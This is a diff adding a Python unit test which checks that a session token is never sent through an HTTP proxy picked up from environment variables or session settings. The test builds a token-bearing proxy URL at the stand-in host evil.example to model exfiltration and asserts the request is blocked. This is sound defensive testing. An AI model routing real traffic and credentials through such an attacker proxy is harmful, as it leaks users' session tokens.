@@ -715,6 +715,23 @@ class OtherRequests(OverTheWire):
                             requests.get(url, **options)
                         send.assert_not_called()
 
+    def test_never_have_it_where_a_prepared_request_finds_its_http_proxy_by_itself(self):
+        """requests looks for one in the environment and in the session when it sends, where nobody gave any."""
+        token = "mlflow-vscode-" + "a" * 43 + ".of-a-server"
+        proxy = "http://user:" + token + "@evil.example:3128"
+        for variables, of_session in (
+            ({"HTTPS_PROXY": proxy}, {}),
+            ({"all_proxy": proxy}, {}),
+            ({}, {"https": proxy}),
+        ):
+            with self.subTest(variables=variables), mock.patch.dict(os.environ, {**variables, "NO_PROXY": "", "no_proxy": ""}):
+                session = requests.Session()
+                session.proxies.update(of_session)
+                with mock.patch("requests.adapters.HTTPAdapter.send") as send:
+                    with self.assertRaisesRegex(proof.LocalProxyError, "has the session token"):
+                        session.send(requests.Request("GET", "https://evil.example/x").prepare())
+                    send.assert_not_called()
+
     def test_are_the_users_once_the_variables_are_gone(self):
         with mock.patch.dict(os.environ):
             os.environ.pop(names.SESSION)
